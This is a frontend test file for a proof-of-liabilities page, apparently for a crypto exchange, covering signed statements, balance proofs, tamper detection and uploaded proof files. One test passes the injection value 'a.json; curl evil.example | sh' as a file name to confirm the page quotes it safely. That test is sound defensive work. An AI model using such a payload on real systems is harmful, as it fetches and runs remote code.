import { cleanup, fireEvent, screen, waitFor, within } from '@testing-library/react'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import type { LiabilityList } from '#protocol/liabilities.ts'
import {
  type LiabilityProof,
  type LiabilityStatement,
  proofText,
  statementHash,
} from '#protocol/proof/liabilities.ts'
import { createWorld, ok, renderInWorld, scriptApi } from '#kit/frontWorld.tsx'
import { listedAs, proofOfOne, signer } from '#kit/liabilityProof.ts'
import { forgetKeptLog, writeKeptLog } from '#src/entities/price-log/keptLog.ts'
import { loadSlices, startTexts } from '#src/shared/i18n/i18n.ts'
import ProofPage from './ProofPage.tsx'

/** As the customer of the test world, who had 70 of the 100 USDT. */
function ownProof(): LiabilityProof {
  return proofOfOne('ann')
}
const CUSTOMER = 'ann'
const { statement } = ownProof()

function listOf(change: Partial<LiabilityList> = {}, of: LiabilityStatement = statement) {
  return { publicKey: signer.publicKey, attests: false, items: [listedAs(of)], ...change }
}

function knowKey(publicKey = signer.publicKey): void {
  const head = {
    size: 1,
    root: 'ab'.repeat(32),
    at: '2026-01-05T00:00:00.000Z',
    keyId: signer.keyId,
    signature: 'cd'.repeat(64),
  }
  writeKeptLog({ publicKey, head, checkedAt: head.at, unproven: null, breach: null })
}

beforeEach(async () => {
  localStorage.clear()
  forgetKeptLog()
  await startTexts('en')
  await loadSlices(['proof', 'errors'])
})
afterEach(() => {
  cleanup()
  vi.unstubAllGlobals()
})

interface OpenOptions {
  readonly signedIn?: boolean
  readonly list?: () => LiabilityList | 'lost'
  /** Null: it gets lost on the way. */
  readonly proof?: () => string | null
  readonly name?: string
}

const NAME = 'liabilities-2026-01-05.json'

function open({ signedIn = true, list = listOf, proof, name = NAME }: OpenOptions = {}) {
  const seen = scriptApi({
    listLiabilities: () => {
      const found = list()
      return found === 'lost' ? found : ok(found)
    },
    getLiabilityProof: () => {
      const text = proof === undefined ? proofText(ownProof()) : proof()
      return text === null ? 'lost' : ok({ name, text })
    },
  })
  const world = createWorld({ signedIn })
  if (signedIn) {
    const user = { id: CUSTOMER, address: null, registeredAt: '2026-01-01T00:00:00.000Z' }
    world.store.dispatch({ type: 'session/userLoaded', payload: user })
  }
  renderInWorld(world, <ProofPage />, '/proof')
  return seen
}

const check = async (): Promise<void> => {
  fireEvent.click(await screen.findByRole('button', { name: 'Check my balance' }))
}
const failing = () => screen.queryAllByText('Failed')

describe('what a visitor sees', () => {
  it('is the newest statement, checked, and that no reserves are attested', async () => {
    knowKey()
    open({ signedIn: false })
    expect(await screen.findByText('Newest statement', { selector: 'h2' })).toBeTruthy()
    const owed = screen.getByLabelText('USDT')
    expect(within(owed).getByText('100.00')).toBeTruthy()
    expect(screen.getByText('No reserves are attested')).toBeTruthy()
    expect(screen.getByText('Sign in to check your balance')).toBeTruthy()
    expect(failing()).toEqual([])
    expect(screen.getByText(/This matches the key this browser/)).toBeTruthy()
  })

  it('is that nothing was made yet', async () => {
    open({ list: () => listOf({ items: [] }) })
    expect(await screen.findByText('No statement yet')).toBeTruthy()
    expect(screen.getByText('What this shows, and what it does not')).toBeTruthy()
  })

  it('is a fault with a way to try again', async () => {
    let lost = true
    open({ list: () => (lost ? 'lost' : listOf()) })
    expect(await screen.findByText('The statements didn’t load')).toBeTruthy()
    lost = false
    fireEvent.click(screen.getByRole('button', { name: 'Try again' }))
    expect(await screen.findByText('Newest statement', { selector: 'h2' })).toBeTruthy()
    expect(screen.queryByText('The statements didn’t load')).toBeNull()
  })

  it('is an alarm where a statement is not signed, or by another key than the known one', async () => {
    knowKey('ab'.repeat(32))
    open({ signedIn: false })
    expect(await screen.findByText('These statements fail verification')).toBeTruthy()
    expect(screen.getByText(/This doesn’t match the key this browser/)).toBeTruthy()
    expect(failing().length).toBeGreaterThan(0)
  })

  it('is an alarm, and no broken page, where a statement is of no moment', async () => {
    knowKey()
    open({ list: () => listOf({}, { ...statement, at: 'tomorrow' }) })
    expect(await screen.findByText('These statements fail verification')).toBeTruthy()
    expect(screen.getByText('What we sent can’t be read as a statement.')).toBeTruthy()
  })
})

describe('the own balance', () => {
  it('is fetched when asked for, and checked here step by step', async () => {
    knowKey()
    const seen = open()
    await check()
    expect(await screen.findByText('The proof holds')).toBeTruthy()
    expect(screen.getByText(/This balance is in the total that was signed/)).toBeTruthy()
    expect(screen.getByText(/The way ends at exactly the root/)).toBeTruthy()
    expect(failing()).toEqual([])
    const command = `npm run verify-liabilities -- liabilities-2026-01-05.json --key ${signer.publicKey} --customer ann`
    expect(screen.getByText(command)).toBeTruthy()
    expect(seen.map(({ name }) => name)).toEqual(['listLiabilities', 'getLiabilityProof'])
  })

  it('holds with a warning where the key is not known here', async () => {
    open()
    await check()
    expect(await screen.findByText('It holds, but the key is not known here')).toBeTruthy()
  })

  it.each([
    ['a smaller leaf', (text: string) => text.replace('"70000000"', '"69999999"')],
    ['another statement', (text: string) => text.replace('"entry":"17"', '"entry":"18"')],
    ['another customer', (text: string) => text.replace('"customer":"ann"', '"customer":"bob"')],
    ['a step below zero', (text: string) => text.replace('"30000000"', '"-30000000"')],
  ])('is loudly refused with %s', async (_, change) => {
    knowKey()
    open({ proof: () => change(proofText(ownProof())) })
    await check()
    const alert = await screen.findByRole('alert')
    expect(alert.textContent).toMatch(/does NOT hold.*Keep the file/)
    expect(failing().length).toBeGreaterThan(0)
    expect(screen.queryByText('The proof holds')).toBeNull()
  })

  it('is refused when it is somebody else’s, though all of it is signed', async () => {
    knowKey()
    open({ proof: () => proofText(proofOfOne('bob')) })
    await check()
    expect((await screen.findByRole('alert')).textContent).toMatch(/does NOT hold/)
  })

  it.each([
    ['signed for one customer alone', { entry: '18' }],
    ['of another number', { snapshot: 2, previous: statementHash(statement) }],
  ])('is refused where its statement is not the one that everybody sees: %s', async (_, change) => {
    knowKey()
    const other = { ...statement, ...change }
    open({ list: () => listOf({}, other) })
    await check()
    expect((await screen.findByRole('alert')).textContent).toMatch(/does NOT hold/)
    expect(failing().length).toBe(1)
    expect(screen.queryByText('The proof holds')).toBeNull()
  })

  it('may be none, for who joined later', async () => {
    knowKey()
    open({ proof: () => proofText({ ...ownProof(), holdings: [] }) })
    await check()
    expect(await screen.findByText('Nothing of yours is in this statement')).toBeTruthy()
  })

  it('makes no command of what the server wrote into the name of the file', async () => {
    open({ name: 'a.json; curl evil.example | sh' })
    await check()
    const command = await screen.findByText(/^npm run verify-liabilities/)
    expect(command.textContent).toContain("-- 'a.json; curl evil.example | sh' --key")
  })

  it('that does not arrive can be asked for again', async () => {
    let lost = true
    open({ proof: () => (lost ? null : proofText(ownProof())) })
    await check()
    expect(await screen.findByText('Your part didn’t load')).toBeTruthy()
    lost = false
    fireEvent.click(screen.getByRole('button', { name: 'Try again' }))
    expect(await screen.findByText(/It holds/)).toBeTruthy()
  })
})

async function choose(text: string): Promise<void> {
  const picker = await screen.findByLabelText<HTMLInputElement>('Choose a file')
  Object.defineProperty(picker, 'files', {
    value: [new File([text], 'p.json')],
    configurable: true,
  })
  fireEvent.change(picker)
}

it('reads a saved file, and refuses one that was changed or is none', async () => {
  knowKey()
  const seen = open({ signedIn: false })
  await choose(proofText(ownProof()))
  expect(await screen.findByText('The proof holds')).toBeTruthy()
  await choose(proofText(ownProof()).replace('"70000000"', '"70000001"'))
  expect(await screen.findByText('This proof does NOT hold')).toBeTruthy()
  await choose('{}')
  expect(await screen.findByText('This is no proof')).toBeTruthy()
  expect(seen.map(({ name }) => name)).toEqual(['listLiabilities'])
})

it.each([
  ['did not come', 'lost'],
  ['were all taken back', listOf({ items: [] })],
  ['come without it', listOf({}, { ...statement, snapshot: 2 })],
] as const)(
  'says of a saved file that its statement is not here where the statements %s',
  async (_, answer) => {
    knowKey()
    open({ list: () => answer })
    await choose(proofText(ownProof()))
    expect(await screen.findByText('It holds, but its statement is not here')).toBeTruthy()
    expect(screen.queryByText('The proof holds')).toBeNull()
  },
)

it('says of a saved file that neither its statement nor its key is known here', async () => {
  open({ list: () => listOf({}, { ...statement, snapshot: 2 }) })
  await choose(proofText(ownProof()))
  const head = (await screen.findByText('It holds, but its statement is not here')).closest(
    '[role]',
  )
  expect(head?.textContent).toContain('This browser hasn’t saved a key for us yet.')
})

it('refuses a saved file that was changed, also where its statement is not here', async () => {
  knowKey()
  open({ list: () => 'lost' })
  await choose(proofText(ownProof()).replace('"70000000"', '"70000001"'))
  expect(await screen.findByText('This proof does NOT hold')).toBeTruthy()
  expect(screen.queryByText('It holds, but its statement is not here')).toBeNull()
})

it('says of each file that is chosen what came of it, also when it is the same again', async () => {
  knowKey()
  open()
  await choose('{}')
  const first = await screen.findByText('This is no proof')
  await choose('[]')
  await waitFor(() => expect(first.isConnected).toBe(false))
  expect(screen.getByText('This is no proof')).toBeTruthy()
})
